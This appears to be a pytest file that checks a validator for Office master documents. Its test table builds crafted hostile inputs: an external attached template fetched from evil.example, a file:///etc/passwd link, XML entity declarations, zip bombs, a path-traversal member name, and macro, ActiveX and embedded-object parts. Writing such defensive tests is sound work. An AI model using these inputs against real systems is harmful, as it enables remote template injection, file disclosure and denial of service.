"""An organisation's own Word or PowerPoint file is looked at before anything opens it."""

import io
import zipfile
from pathlib import Path

import docx
import pptx
import pytest

from publisher.models.specs import Plan
from publisher.plan.master_file import is_master, master
from publisher.plan.read import source
from publisher.plan.write import changed_files
from tests.plans import smallest_plan

WORD = "templates/report/organisations/our-organisation/master.docx"
SLIDES = "templates/presentation/master.pptx"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
ATTACHED = HYPERLINK.replace("hyperlink", "attachedTemplate")


def word() -> bytes:
    made = io.BytesIO()
    docx.Document().save(made)
    return made.getvalue()


def slides() -> bytes:
    made = io.BytesIO()
    pptx.Presentation().save(made)
    return made.getvalue()


def changed(document: bytes, **members: bytes | None) -> bytes:
    """Give a document with members replaced, added, or taken out."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        there = {name: archive.read(name) for name in archive.namelist()}
    there |= {name: content for name, content in members.items() if content is not None}
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in there.items():
            if members.get(name, b"") is not None:
                archive.writestr(name, content)
    return made.getvalue()


def related(kind: str, target: str) -> bytes:
    """Give a document with a relationship to something outside it."""
    path = "word/_rels/document.xml.rels"
    with zipfile.ZipFile(io.BytesIO(word())) as archive:
        there = archive.read(path)
    link = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}" TargetMode="External"/>'
    return changed(
        word(), **{path: there.replace(b"</Relationships>", link.encode() + b"</Relationships>")}
    )


def with_kind(kind: bytes) -> bytes:
    """Give a document whose main part says it is of another kind."""
    with zipfile.ZipFile(io.BytesIO(word())) as archive:
        kinds = archive.read("[Content_Types].xml")
    main = b"wordprocessingml.document.main+xml"
    return changed(
        word(),
        **{"[Content_Types].xml": kinds.replace(b"openxmlformats-officedocument." + main, kind)},
    )


def sentences(tmp_path: Path, path: str, content: bytes) -> list[str]:
    return [str(one) for one in source(smallest_plan(tmp_path, {path: content})).all_problems()]


@pytest.mark.parametrize(
    ("path", "content"), [(WORD, word()), (SLIDES, slides())], ids=["docx", "pptx"]
)
def test_a_master_is_read_kept_and_written_back(tmp_path, path, content):
    """By its content, as pictures are; and its folder decides whose it is."""
    folder = smallest_plan(tmp_path, {path: content})

    found = source(folder)

    assert found.all_problems() == []
    assert found.plan.pictures[path].content == content
    assert changed_files(tmp_path / "elsewhere", Plan(), found.plan)[path] == content


def test_a_link_that_a_person_may_follow_is_no_harm(tmp_path):
    """A master has its organisation's address in it."""
    assert sentences(tmp_path, WORD, related(HYPERLINK, "https://www.example.org/")) == []


HOSTILE = {
    "nothing": (WORD, lambda: b"", "is damaged, or no file of an office program"),
    "cut short": (WORD, lambda: word()[:9000], "is damaged, or no file of an office program"),
    "an old kind, or encrypted": (
        WORD,
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "is encrypted or of an old kind",
    ),
    "slides as words": (WORD, slides, "is no Word document, whatever its name says"),
    "words as slides": (
        SLIDES,
        word,
        "is no PowerPoint presentation, whatever its name says",
    ),
    "macros": (
        WORD,
        lambda: changed(word(), **{"word/vbaProject.bin": b"x"}),
        "holds macros (word/vbaProject.bin)",
    ),
    "macros in slides": (
        SLIDES,
        lambda: changed(slides(), **{"ppt/vbaProject.bin": b"x"}),
        "holds macros (ppt/vbaProject.bin)",
    ),
    "slides cut short": (
        SLIDES,
        lambda: slides()[:9000],
        "is damaged, or no ",
    ),
    "of a kind with macros": (
        WORD,
        lambda: with_kind(b"ms-word.document.macroEnabled.main+xml"),
        "is of a kind that holds macros",
    ),
    "a template's kind": (
        WORD,
        lambda: with_kind(b"openxmlformats-officedocument.wordprocessingml.template.main+xml"),
        "is no Word document",
    ),
    "an embedded object": (
        WORD,
        lambda: changed(word(), **{"word/embeddings/oleObject1.bin": b"x"}),
        "holds an embedded object",
    ),
    "ActiveX": (
        WORD,
        lambda: changed(word(), **{"word/activeX/activeX1.xml": b"<x/>"}),
        "holds macros",
    ),
    "an attached template": (
        WORD,
        lambda: related(ATTACHED, "https://evil.example/t.dotm"),
        "draws on something outside it (attachedTemplate",
    ),
    "a link to a file": (
        WORD,
        lambda: related(HYPERLINK, "file:///etc/passwd"),
        "has a link that is no web or mail address",
    ),
    "entities": (
        WORD,
        lambda: changed(
            word(), **{"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}
        ),
        "holds a document type in word/document.xml",
    ),
    "entities in UTF-16": (
        WORD,
        lambda: changed(word(), **{"word/x.xml": "<!DOCTYPE a>".encode("utf-16")}),
        "holds a document type in word/x.xml",
    ),
    "a bomb": (
        WORD,
        lambda: changed(word(), **{"word/media/bomb.bmp": bytes(30_000_000)}),
        "squeezed far harder than any document is",
    ),
    "a larger bomb": (
        WORD,
        lambda: changed(word(), **{"a.xml": bytes(61_000_000)}),
        "would be 61 MB when opened",
    ),
    "a way out": (
        WORD,
        lambda: changed(word(), **{"../../out.xml": b"<x/>"}),
        "holds a file whose name leads out of it",
    ),
    "no main part": (
        WORD,
        lambda: changed(word(), **{"word/document.xml": None}),
        "is no Word document",
    ),
    "a macro file": (
        "templates/report/master.docm",
        word,
        "is not read by anything; a master is called",
    ),
    "another name": (
        "templates/report/letter.docx",
        word,
        "is not read by anything; a master is called",
    ),
    "another place": (
        "templates/report/somewhere/deep/master.docx",
        word,
        "is not read by anything",
    ),
}


@pytest.mark.parametrize("case", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_master_is_named_and_refused(case):
    """In a sentence about the file; and no library opened it."""
    path, content, expected = case

    assert is_master(path)
    assert expected in master(path, content())


def test_the_file_of_a_hostile_master_is_named(tmp_path):
    """As with every other file of the plan."""
    (sentence,) = sentences(tmp_path, WORD, b"")

    assert sentence.startswith(f"{WORD}: is damaged")


def test_a_master_larger_than_any_is_not_read(tmp_path):
    """Its size is asked for first."""
    (sentence,) = sentences(tmp_path, WORD, bytes(10_000_001))

    assert sentence == f"{WORD}: is larger than 10 MB"
